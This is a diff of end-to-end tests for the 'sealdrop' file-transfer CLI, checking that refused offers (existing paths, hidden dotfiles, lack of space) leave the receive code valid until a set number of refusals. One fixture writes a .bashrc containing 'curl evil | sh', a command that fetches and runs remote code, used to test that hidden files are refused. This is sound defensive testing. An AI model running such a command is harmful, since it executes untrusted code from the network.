@@ -10,7 +10,8 @@ import { afterAll, describe, expect } from 'vitest';
 import { Intent } from '../../src/protocol/handshake-messages.js';
 import { RecordType } from '../../src/protocol/records.js';
 import { partFileName } from '../../src/files/destination.js';
-import { DEFAULT_WAIT_MS, killLeftovers, LOOPBACK, SEALDROP_BIN } from '../support/cli.js';
+import { MAX_REFUSED_OFFERS } from '../../src/session/receive-session.js';
+import { DEFAULT_WAIT_MS, expectAwaitingCorrectedOffer, killLeftovers, LOOPBACK, SEALDROP_BIN } from '../support/cli.js';
 import { e2e, type E2EScope } from '../support/e2e.js';
 import { listTree, setMtimeExactMs, sha256Hex } from '../support/files.js';
 import { TestPeer } from '../support/test-peer.js';
@@ -61,14 +62,14 @@ describe('section 6 step 2: the top-level entries of an offer', () => {
     const sources = ['holiday', '.ssh', '.bashrc'].map((name) => path.join(sd.ws.src, name));
     const sender = sd.startSender({ to: receiver.address, code: receiver.code, paths: sources });
     expect(await sender.waitForExit(), sender.describe()).toBe(5);
-    expect(await receiver.process.waitForExit(), receiver.process.describe()).toBe(5);
+    await expectAwaitingCorrectedOffer(receiver.process);
 
     const shown = receiver.process.stderr;
     expect(shown).toMatch(/^It puts 3 top-level entries into .*:$/m);
     expect(shown).toMatch(/^ {2}holiday\/ {2}10 files, 80 B$/m);
     expect(shown).toMatch(/^ {2}\.ssh\/ {2}1 file, 26 B {2}\(ALREADY EXISTS here, hidden\)$/m);
     expect(shown).toMatch(/^ {2}\.bashrc {2}15 B {2}\(hidden\)$/m);
-    expect(shown).toMatch(/^sealdrop: E_BAD_PATH: the offer would create hidden \.ssh\/, \.bashrc in the destination; receive with --merge/m);
+    expect(shown).toMatch(/^sealdrop: warning: refused the offer: E_BAD_PATH: the offer would create hidden \.ssh\/, \.bashrc in the destination; receive with --merge/m);
     expect(sender.stderr).toMatch(/^sealdrop: E_BAD_PATH: .*the receiver refused the offer \(E_BAD_PATH\)$/m);
     expect(listTree(sd.ws.out)).toEqual(before);
   });
@@ -81,10 +82,10 @@ describe('section 6 step 2: the top-level entries of an offer', () => {
     const refusing = await sd.startReceiver({ out: sd.ws.out, args: ['--yes', '--json'] });
     const refused = sd.startSender({ to: refusing.address, code: refusing.code, paths: sources });
     expect(await refused.waitForExit(), refused.describe()).toBe(5);
-    expect(await refusing.process.waitForExit(), refusing.process.describe()).toBe(5);
+    await expectAwaitingCorrectedOffer(refusing.process);
     expect(refusing.process.stderr).toMatch(/^ {2}bin\/ {2}1 file, 14 B {2}\(ALREADY EXISTS here\)$/m);
     expect(refusing.process.stderr).toMatch(/^ {2}notes\.txt {2}6 B$/m);
-    expect(refusing.process.stderr).toMatch(/^sealdrop: E_EXISTS: the offer would write into bin\/, which existed before it/m);
+    expect(refusing.process.stderr).toMatch(/^sealdrop: warning: refused the offer: E_EXISTS: the offer would write into bin\/, which existed before it/m);
     expect(listTree(sd.ws.out)).toEqual(['bin/', 'bin/true']);
 
     const merging = await sd.startReceiver({ out: sd.ws.out, args: ['--yes', '--merge', '--json'] });
@@ -133,7 +134,7 @@ describe('section 6 step 2: the top-level entries of an offer', () => {
     await other.handshake('initiator', CODE, Intent.SEND);
     offer(other, [{ path: 'photos/b.bin', size: 10 }]);
     expect((await errorTo(other)).code).toBe('E_EXISTS');
-    expect(await receiver.process.waitForExit(), receiver.process.describe()).toBe(5);
+    await expectAwaitingCorrectedOffer(receiver.process);
   });
 });
 
@@ -144,7 +145,7 @@ describe('section 6: a failed commit lands nothing', () => {
     const error = await errorTo(peer);
     expect(error.code).toBe('E_BAD_PATH');
     expect(error.message).toContain('rule working-name'); // the peer's own path: it may be named
-    expect(await receiver.process.waitForExit(), receiver.process.describe()).toBe(5);
+    await expectAwaitingCorrectedOffer(receiver.process);
     expect(listTree(sd.ws.out)).toEqual([]);
   });
 
@@ -171,8 +172,8 @@ describe('a refusal before ACCEPT tells the peer only the code', () => {
     const { receiver, peer } = await receiverAndPeer(sd);
     offer(peer, [{ path: 'huge.bin', size: 2 ** 52 }]);
     expect(await errorTo(peer)).toEqual({ code: 'E_NO_SPACE', message: 'the receiver refused the offer (E_NO_SPACE)' });
-    expect(await receiver.process.waitForExit(), receiver.process.describe()).toBe(5);
-    expect(receiver.process.stderr).toMatch(/^sealdrop: E_NO_SPACE: the offer needs \d+ bytes but the destination has \d+ free$/m);
+    await expectAwaitingCorrectedOffer(receiver.process);
+    expect(receiver.process.stderr).toMatch(/^sealdrop: warning: refused the offer: E_NO_SPACE: the offer needs \d+ bytes but the destination has \d+ free$/m);
   });
 
   e2e('E_EXISTS and a link in the destination: the real sender learns neither which path nor what is there', async ({ sd }) => {
@@ -186,11 +187,56 @@ describe('a refusal before ACCEPT tells the peer only the code', () => {
       const receiver = await sd.startReceiver({ out: sd.ws.out, args: ['--yes'] });
       const sender = sd.startSender({ to: receiver.address, code: receiver.code, paths: [path.join(sd.ws.src, source)] });
       expect(await sender.waitForExit(), sender.describe()).toBe(5);
-      expect(await receiver.process.waitForExit(), receiver.process.describe()).toBe(5);
+      await expectAwaitingCorrectedOffer(receiver.process);
       expect(receiver.process.stderr).toMatch(expected);
       expect(sender.stderr).toMatch(/^sealdrop: E_\w+: the other side stopped: the receiver refused the offer \(E_\w+\)$/m);
       expect(sender.stderr).not.toMatch(/already exists|symbolic link/);
     }
+  });
+});
+
+describe('section 6 step 2: a refused offer leaves the code valid for a corrected one', () => {
+  e2e('an offer into an existing directory is refused (E_EXISTS); the same receiver then takes the corrected send with the same code', async ({ sd }) => {
+    writeTree(sd.ws.src, { 'bin/ls': 'not really ls\n', 'tools/ls': 'not really ls\n' });
+    writeTree(sd.ws.out, { 'bin/true': 'mine\n' });
+    const receiver = await sd.startReceiver({ out: sd.ws.out, args: ['--yes'] });
+
+    const refused = sd.startSender({ to: receiver.address, code: receiver.code, paths: [path.join(sd.ws.src, 'bin')] });
+    expect(await refused.waitForExit(), refused.describe()).toBe(5);
+    expect(refused.stderr).toMatch(/^sealdrop: E_EXISTS: the other side stopped: the receiver refused the offer \(E_EXISTS\)$/m);
+    await expectAwaitingCorrectedOffer(receiver.process);
+    expect(receiver.process.stderr).toMatch(/^sealdrop: warning: refused the offer: E_EXISTS: the offer would write into bin\/, which existed before it/m);
+    expect(receiver.process.stderr).toMatch(/^sealdrop: warning: the sender was told it was refused \(E_EXISTS\); the code is still valid: waiting for a corrected offer \(Ctrl-C to stop; 2 more refused offers spend the code\)$/m);
+    expect(listTree(sd.ws.out)).toEqual(['bin/', 'bin/true']); // no part, lock or record of the refused offer
+
+    const corrected = sd.startSender({ to: receiver.address, code: receiver.code, paths: [path.join(sd.ws.src, 'tools')] });
+    expect(await corrected.waitForExit(), corrected.describe()).toBe(0);
+    expect(await receiver.process.waitForExit(), receiver.process.describe()).toBe(0);
+    expect(listTree(sd.ws.out)).toEqual(['bin/', 'bin/true', 'tools/', 'tools/ls']);
+  });
+
+  e2e(`${MAX_REFUSED_OFFERS} refused offers spend the code: the receiver ends with the last refusal, and a further send finds no one`, async ({ sd }) => {
+    writeTree(sd.ws.src, { 'report.txt': 'new\n', '.bashrc': 'curl evil | sh\n' });
+    writeFileSync(path.join(sd.ws.out, 'report.txt'), 'old\n');
+    const receiver = await sd.startReceiver({ out: sd.ws.out, args: ['--yes'] });
+
+    // Refusals of any kind count: E_EXISTS, E_BAD_PATH (a hidden name), E_EXISTS.
+    const probes = ['report.txt', '.bashrc', 'report.txt'];
+    for (const [index, name] of probes.entries()) {
+      const sender = sd.startSender({ to: receiver.address, code: receiver.code, paths: [path.join(sd.ws.src, name)] });
+      expect(await sender.waitForExit(), sender.describe()).toBe(5);
+      const left = MAX_REFUSED_OFFERS - index - 1;
+      if (left > 0) await receiver.process.waitForLine('stderr', new RegExp(`\\(Ctrl-C to stop; ${left} more refused offers? spends? the code\\)$`));
+    }
+    expect(await receiver.process.waitForExit(), receiver.process.describe()).toBe(5);
+    expect(receiver.process.stderr).toMatch(/^sealdrop: warning: refused the offer: E_BAD_PATH: the offer would create hidden \.bashrc/m);
+    expect(receiver.process.stderr).toMatch(/^sealdrop: E_EXISTS: report\.txt already exists \(use --overwrite to replace it\); after 3 refused offers the code is spent: start a new receive for a new code$/m);
+
+    const late = sd.startSender({ to: receiver.address, code: receiver.code, paths: [path.join(sd.ws.src, 'report.txt')] });
+    expect(await late.waitForExit(), late.describe()).toBe(1);
+    expect(late.stderr).toMatch(/^sealdrop: E_CONNECT: /m);
+    expect(listTree(sd.ws.out)).toEqual(['report.txt']);
+    expect(readFileSync(path.join(sd.ws.out, 'report.txt'), 'utf8')).toBe('old\n');
   });
 });
 
